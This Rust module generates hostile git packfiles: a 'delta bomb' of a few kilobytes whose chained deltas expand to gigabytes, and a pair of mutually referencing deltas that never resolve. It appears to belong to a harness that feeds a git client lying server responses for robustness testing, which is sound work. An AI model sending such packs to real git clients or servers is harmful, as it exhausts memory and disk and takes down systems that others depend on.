//! Packs that no git would write: small ones that unfold into gigabytes, and ones that never end
//! (B10).
//!
//! Send them with [`Lie::Pack`](super::Lie::Pack).

use sha1::{Digest, Sha1};

use crate::git::Oid;

const BLOB: u8 = 3;
const OFFSET_DELTA: u8 = 6;
const REFERENCE_DELTA: u8 = 7;
/// The most that one copy instruction of a delta can copy.
const MOST_PER_COPY: u64 = 0xff_ffff;

/// A pack in the making. Objects are stored, not compressed: the format allows it.
#[derive(Debug, Default)]
pub struct Pack {
    objects: Vec<u8>,
    count: u32,
    last: usize,
}

/// Returns a pack of a few kilobytes whose last object has `size` bytes.
///
/// Every delta repeats the object before it a thousand times.
pub fn delta_bomb(size: u64) -> Vec<u8> {
    let mut length: u64 = 1000;
    let mut pack = Pack::default().blob(&[b'b'; 1000]);
    while length < size {
        let next = size.min(length.saturating_mul(1000));
        pack = pack.delta_on_last(&repeat(length, next));
        length = next;
    }
    pack.finish()
}

/// Returns a pack of two deltas, each on top of the other: neither can ever be read.
pub fn delta_loop() -> Vec<u8> {
    let (first, second) = (Oid::unknown(0xa), Oid::unknown(0xb));
    let delta = repeat(100, 100);
    Pack::default().delta_on(&first, &delta).delta_on(&second, &delta).finish()
}

impl Pack {
    /// Adds a blob.
    #[must_use]
    pub fn blob(mut self, bytes: &[u8]) -> Self {
        self.begin(BLOB, bytes.len());
        self.store(bytes);
        self
    }

    /// Adds a delta on the object before it.
    #[must_use]
    pub fn delta_on_last(mut self, delta: &[u8]) -> Self {
        let distance = self.objects.len() - self.last;
        self.begin(OFFSET_DELTA, delta.len());
        self.objects.extend(offset(distance));
        self.store(delta);
        self
    }

    /// Adds a delta on any object, which need not exist.
    #[must_use]
    pub fn delta_on(mut self, base: &Oid, delta: &[u8]) -> Self {
        self.begin(REFERENCE_DELTA, delta.len());
        self.objects.extend(base.to_bytes());
        self.store(delta);
        self
    }

    /// Returns the whole pack with its checksum.
    pub fn finish(self) -> Vec<u8> {
        let mut bytes = b"PACK\0\0\0\x02".to_vec();
        bytes.extend(self.count.to_be_bytes());
        bytes.extend(self.objects);
        let checksum = Sha1::digest(&bytes);
        bytes.extend_from_slice(&checksum);
        bytes
    }

    /// Writes type and size: four bits of size beside the type, then seven per byte.
    fn begin(&mut self, kind: u8, size: usize) {
        self.last = self.objects.len();
        self.count += 1;
        let more = u8::from(size > 15) << 7;
        self.objects.push(more | kind << 4 | low_bits(size as u64, 4));
        if size > 15 {
            self.objects.extend(varint(size as u64 >> 4));
        }
    }

    /// Writes a zlib stream of stored blocks.
    fn store(&mut self, bytes: &[u8]) {
        self.objects.extend([0x78, 0x01]);
        let blocks = bytes.len().div_ceil(0xffff).max(1);
        for (number, block) in (1..=blocks).zip(bytes.chunks(0xffff)) {
            let length = u16::try_from(block.len()).unwrap_or(u16::MAX);
            self.objects.push(u8::from(number == blocks));
            self.objects.extend(length.to_le_bytes());
            self.objects.extend((!length).to_le_bytes());
            self.objects.extend_from_slice(block);
        }
        self.objects.extend(adler32(bytes).to_be_bytes());
    }
}

/// Returns a delta that makes `size` bytes by copying a base of `base` bytes again and again.
fn repeat(base: u64, size: u64) -> Vec<u8> {
    let mut delta: Vec<u8> = varint(base).into_iter().chain(varint(size)).collect();
    let mut left = size;
    while left > 0 {
        let count = left.min(base).min(MOST_PER_COPY);
        // Copy from offset 0; the three size bytes follow.
        delta.push(0b1111_0000);
        delta.extend_from_slice(&count.to_le_bytes()[..3]);
        left -= count;
    }
    delta
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value > 0x7f {
        bytes.push(0x80 | low_bits(value, 7));
        value >>= 7;
    }
    bytes.push(low_bits(value, 7));
    bytes
}

/// The distance to a base, most significant first, each step off by one so that no value has two
/// forms.
fn offset(mut distance: usize) -> Vec<u8> {
    let mut bytes = vec![low_bits(distance as u64, 7)];
    while distance > 0x7f {
        distance = (distance >> 7) - 1;
        bytes.insert(0, 0x80 | low_bits(distance as u64, 7));
    }
    bytes
}

fn low_bits(value: u64, count: u32) -> u8 {
    value.to_le_bytes()[0] & ((1 << count) - 1)
}

fn adler32(bytes: &[u8]) -> u32 {
    let (a, b) = bytes.iter().fold((1_u32, 0_u32), |(a, b), byte| {
        let a = (a + u32::from(*byte)) % 65_521;
        (a, (b + a) % 65_521)
    });
    b << 16 | a
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_terabyte_fits_into_a_few_kilobytes_per_gigabyte() {
        // 10 GB: the copies of the last step are limited by their three bytes of size.
        assert!(delta_bomb(10_000_000_000).len() < 20_000);
    }

    #[test]
    fn numbers_are_written_as_git_reads_them() {
        assert_eq!(varint(0), [0]);
        assert_eq!(varint(300), [0xac, 0x02]);
        assert_eq!(offset(127), [0x7f]);
        assert_eq!(offset(128), [0x80, 0x00]);
        assert_eq!(adler32(b"Wikipedia"), 0x11e6_0398);
    }
}
